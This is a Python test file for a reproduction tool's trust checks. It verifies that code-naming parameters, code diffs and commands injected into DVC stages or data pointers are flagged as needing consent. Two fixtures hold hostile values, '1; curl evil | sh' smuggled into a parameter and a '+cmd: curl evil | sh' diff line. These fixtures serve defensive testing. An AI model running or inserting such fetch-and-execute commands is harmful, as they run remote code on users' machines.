"""What a reproduction takes from the tracking store, and what needs --allow-code-changes."""

from __future__ import annotations

import yaml

from reprobook.reproduce import trust

COMMIT_PARAMS = "model:\n  estimator: sklearn.linear_model.LogisticRegression\n  params:\n    C: 1.0\n"


def recorded(**model: object) -> str:
    tree = trust.as_recorded(COMMIT_PARAMS)
    tree["model"].update(model)
    return yaml.safe_dump(tree)


def diff_of(*paths: str) -> str:
    return "".join(f"diff --git a/{p} b/{p}\nindex 1..2 100644\n--- a/{p}\n+++ b/{p}\n@@ -1 +1 @@\n-x\n+y\n" for p in paths)


def test_a_clean_run_applies_nothing():
    applied = trust.assess("", COMMIT_PARAMS, recorded(), "stages: {}")
    assert applied == trust.Applied() and not applied.needs_consent


def test_a_hyperparameter_is_shown_but_needs_no_consent():
    applied = trust.assess("", COMMIT_PARAMS, recorded(params={"C": 0.5}), "stages: {}")
    assert applied.params == {"model.params.C": (1.0, 0.5)} and not applied.needs_consent
    assert applied.describe() == ["param model.params.C: 1.0 at the commit -> 0.5 in the record"]


def test_params_that_name_code_need_consent():
    for change in ({"estimator": "evil.Backdoor"}, {"trusted_types": ["evil.Backdoor"]}):
        applied = trust.assess("", COMMIT_PARAMS, recorded(**change), "stages: {}")
        assert applied.needs_consent and applied.code_params == [f"model.{next(iter(change))}"]
        assert "--allow-code-changes" in trust.refusal("abc", applied)


def test_a_param_interpolated_into_a_stage_command_needs_consent():
    dvc_yaml = "stages:\n  train:\n    cmd: python train.py --c ${model.params.C}\n"
    applied = trust.assess("", COMMIT_PARAMS, recorded(params={"C": "1; curl evil | sh"}), dvc_yaml)
    assert applied.code_params == ["model.params.C"]


def test_a_diff_of_code_needs_consent_a_diff_of_docs_or_outputs_does_not():
    applied = trust.assess(diff_of("src/pkg/features.py", "notebooks/03_modeling.ipynb", "dvc.yaml", "README.md",
                                   "params.yaml", "dvc.lock", "reports/modeling/metrics.json",
                                   ".reprobook/code/modeling.json"), COMMIT_PARAMS, recorded(), "")
    assert applied.diff_files == ["src/pkg/features.py", "notebooks/03_modeling.ipynb", "dvc.yaml", "README.md",
                                  ".reprobook/code/modeling.json"]
    assert applied.code_files == ["src/pkg/features.py", "notebooks/03_modeling.ipynb", "dvc.yaml"]
    message = trust.refusal("abc", applied)
    assert "src/pkg/features.py, notebooks/03_modeling.ipynb, dvc.yaml" in message and "README" not in message
    assert not trust.assess(diff_of("README.md"), COMMIT_PARAMS, recorded(), "").needs_consent


def test_defaults_missing_from_the_commits_params_file_are_not_changes():
    """The record stores params validated (defaults filled in): the commit's file is compared the same way."""
    assert trust.assess("", "model:\n  seed: 42\n", yaml.safe_dump(trust.as_recorded("")), "").params == {}


def test_a_data_pointer_is_not_code_unless_it_gains_a_command():
    pointer = "diff --git a/data/raw/x.csv.dvc b/data/raw/x.csv.dvc\n--- a/data/raw/x.csv.dvc\n+++ b/data/raw/x.csv.dvc\n"
    assert not trust.assess(pointer + "+- md5: 0123\n", COMMIT_PARAMS, recorded(), "").needs_consent
    assert trust.assess(pointer + "+cmd: curl evil | sh\n", COMMIT_PARAMS, recorded(), "").code_files == ["data/raw/x.csv.dvc"]
